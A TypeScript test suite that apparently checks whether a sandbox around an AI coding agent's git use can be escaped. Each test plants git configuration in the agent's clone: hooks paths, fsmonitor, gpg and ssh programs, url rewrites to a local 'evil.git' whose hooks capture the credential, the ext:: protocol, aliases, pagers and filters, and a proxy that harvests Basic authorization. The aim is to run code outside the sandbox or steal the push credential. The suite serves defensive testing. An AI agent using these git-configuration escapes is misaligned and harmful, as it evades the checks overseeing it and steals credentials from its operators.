import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { suite, type Attack, type Suite } from '../attack.ts'
import { credentialCanary, openClones, type Plot } from '../stages/clones.ts'
import { everyKey, everyKeyText } from './every-key.ts'
import { configText } from './git-text.ts'

type Entries = (plot: Plot) => readonly (readonly [key: string, value: string])[]

const work = 'echo work >> README.md && echo new > new.txt'

interface More {
  /** What the configuration leads to. */
  readonly before?: (plot: Plot) => Promise<unknown>
  readonly succeeded?: Attack<Plot>['succeeded']
}

/** Adds to the clone's own configuration, and leaves work for the turn's end. */
function configured(name: string, entries: Entries, { before, succeeded }: More = {}): Attack<Plot> {
  return {
    name,
    walls: ['git-outside'],
    plant: async (plot) => {
      await before?.(plot)
      await plot.run(work)
      await append(plot, '.git/config', configText(entries(plot)))
    },
    provoke: (plot) => plot.turnEnd(),
    succeeded: succeeded ?? ((plot) => plot.ranOutside()),
  }
}

async function program(plot: Plot, file: string, code: number): Promise<void> {
  await plot.write(file, `#!/bin/sh\n${plot.canary(`exit ${code}`)}\n`)
  await plot.run(`chmod +x ${file}`)
}

async function append(plot: Plot, file: string, text: string): Promise<void> {
  await plot.write(`${file}.more`, text)
  await plot.run(`cat '${file}.more' >> '${file}'; rm '${file}.more'`)
}

/** A bare repository of the agent's, whose hooks run where git pushes to it. */
const ownRemote = (
  plot: Plot,
): string => `git init -q --bare .git/evil.git && cat > .git/evil.git/hooks/update <<'END' && chmod +x .git/evil.git/hooks/update
#!/bin/sh
${plot.canary('exit 0')}
END
git push -q .git/evil.git HEAD:refs/heads/main; rm -f ${plot.canaryFile}`

/** One file of canaries, planted where git looks for it. */
function everywhere(where: string, plant: (plot: Plot, text: string) => Promise<unknown>): Attack<Plot> {
  return {
    name: `a canary in each of ${everyKey.length} keys, in ${where}`,
    walls: ['git-outside'],
    plant: async (plot) => {
      await plot.run(`${work}; echo '* filter=canary merge=canary diff=canary' > .git/info/attributes`)
      await plant(plot, everyKeyText(plot))
    },
    provoke: async (plot) => {
      await plot.othersPush('README.md', 'another pod wrote this\n')
      await plot.safetyPush()
      await plot.turnEnd()
      await plot.nextPod()
    },
    succeeded: (plot) => plot.ranOutside(),
  }
}

/** What the agent's own proxy was sent in clear. */
const heard = new WeakMap<Plot, readonly (string | undefined)[]>()

const proxied: Attack<Plot> = {
  name: 'a proxy for the address of the gateway, by a key more specific than any guard',
  walls: ['git-outside'],
  plant: async (plot) => {
    const url = await plot.overHttp()
    await plot.run(work)
    const proxy = await startProxy()
    await append(plot, '.git/config', configText([[`http.${url}.proxy`, proxy.url]]))
    heard.set(plot, proxy.heard)
  },
  provoke: (plot) => plot.turnEnd(),
  succeeded: (plot) => heard.get(plot)!.some((line) => line?.startsWith('Basic ')),
}

/** Asks whoever comes for his credential; it holds no process up. */
async function startProxy(): Promise<{ readonly url: string; readonly heard: readonly (string | undefined)[] }> {
  const heard: (string | undefined)[] = []
  const server = createServer(({ headers: { authorization } }, response) => {
    heard.push(authorization)
    response.writeHead(authorization ? 502 : 401, { 'www-authenticate': 'Basic realm="git"' }).end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  server.unref()
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, heard }
}

const attacks: readonly Attack<Plot>[] = [
  everywhere('.git/config', (plot, text) => append(plot, '.git/config', text)),
  everywhere('.git/config.worktree', async (plot, text) => {
    await append(plot, '.git/config', configText([['extensions.worktreeConfig', 'true']]))
    await plot.write('.git/config.worktree', text)
  }),
  everywhere('an included file', async (plot, text) => {
    await plot.write('.git/included', text)
    await append(plot, '.git/config', configText([['include.path', 'included']]))
  }),
  configured('hooks in a folder of its own', (plot) => [['core.hooksPath', `${plot.clone}/.git/own-hooks`]], {
    before: async (plot) => {
      for (const hook of ['pre-commit', 'post-commit', 'pre-push', 'post-checkout', 'reference-transaction'])
        await program(plot, `.git/own-hooks/${hook}`, 0)
    },
  }),
  configured('a monitor of the file system', (plot) => [['core.fsmonitor', `${plot.canary('echo /')} #`]]),
  configured(
    'a program that signs',
    (plot) => [
      ['commit.gpgSign', 'true'],
      ['gpg.program', `${plot.clone}/.git/gpg`],
    ],
    { before: (plot) => program(plot, '.git/gpg', 1) },
  ),
  configured('an address that git takes for another, by ssh', (plot) => [
    ['url.ssh://anywhere/.insteadOf', plot.forge],
    ['core.sshCommand', `${plot.canary('false')} #`],
  ]),
  configured(
    'an address that git takes for another, with hooks that see the credential',
    (plot) => [[`url.${plot.clone}/.git/evil.git.insteadOf`, plot.forge]],
    {
      before: (plot) => plot.run(ownRemote(plot)),
      succeeded: (plot) => plot.stolen().includes(credentialCanary),
    },
  ),
  configured(
    'an address by a program',
    (plot) => [
      [`url.ext::${plot.clone}/.git/ext .insteadOf`, plot.forge],
      ['protocol.ext.allow', 'always'],
    ],
    { before: (plot) => program(plot, '.git/ext', 1) },
  ),
  configured('a work tree that lies in the wrapper’s state', (plot) => [['core.worktree', plot.secret.dir]], {
    succeeded: async (plot) => {
      const { said } = await plot.run(`git -c core.worktree=${plot.clone} ls-tree -r --name-only HEAD`)
      return /^packed-refs$|^HEAD$/m.test(said)
    },
  }),
  configured(
    'a filter beside a pager and an alias that stands for a command',
    (plot) => [
      ['alias.status', `!${plot.canary('true')}`],
      ['core.pager', plot.canary()],
      ['filter.alias.clean', plot.canary()],
      ['core.attributesFile', `${plot.clone}/.git/own-attributes`],
    ],
    { before: (plot) => plot.run("echo '* filter=alias' > .git/own-attributes") },
  ),
  proxied,
  // The last: the HOME is the stage's.
  everywhere('~/.gitconfig', (plot, text) => append(plot, `${plot.folders.home}/.gitconfig`, text)),
]

export const configuration: Suite = suite('1 git configuration', openClones, attacks)
